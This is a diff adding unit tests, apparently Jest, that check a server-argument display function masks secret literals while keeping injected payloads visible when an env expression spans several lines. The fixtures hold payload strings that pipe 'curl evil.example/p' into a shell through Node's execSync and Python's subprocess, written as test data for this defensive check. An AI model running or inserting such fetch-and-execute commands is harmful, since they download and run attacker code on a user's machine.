@@ -55,6 +55,29 @@ describe("shownServerArgs: a call in a program's env expression stays in sight (
   });
 });
 
+// r55 R55-1: a program's text holding a line break hid its env expression whole, payload included.
+describe("shownServerArgs: a call in a program's env expression over lines stays in sight (r55 R55-1)", () => {
+  const payload = "require('child_process').execSync('curl evil.example/p|sh')";
+  const python = "subprocess.check_output('curl evil.example/p|sh', shell=True).decode()";
+  it.each([
+    ["node", `process.env.TOKEN='sk-'+\n${payload}`, `process.env.TOKEN='\${TOKEN}'+\n${payload}`],
+    ["node", `x=1\nprocess.env.TOKEN='sk-'+${payload}`, `x=1\nprocess.env.TOKEN='\${TOKEN}'+${payload}`],
+    [
+      "python",
+      `import os\nos.environ['TOKEN']='sk-'+\\\n${python}`,
+      `import os\nos.environ['TOKEN']='\${TOKEN}'+\\\n${python}`,
+    ],
+  ])("%s shows %j's payload, only the literal hidden", (command, script, shownScript) => {
+    const flag = command === "node" ? "-e" : "-c";
+    expect(shown(command, [flag, script])).toEqual([flag, shownScript, SHELL_MARK]);
+  });
+
+  it("hides an expression of literals over lines whole", () => {
+    const words = shown("node", ["-e", "process.env.TOKEN='sk-'+\n'hunter2SECRET'"]);
+    expect(words).toEqual(["-e", "process.env.TOKEN=${TOKEN}", SHELL_MARK]);
+  });
+});
+
 describe("shownServerArgs: a shell's own NAME=value read partly at run time (fix141)", () => {
   it("hides a telling value's literal text beside a $VAR (the $VAR kept, r50 F1), and keeps one that is only run-time text", () => {
     expect(shown("sh", ["-c", "TOKEN=abc$def run"])).toEqual(["-c", "TOKEN=${TOKEN}$def run", SHELL_MARK]);
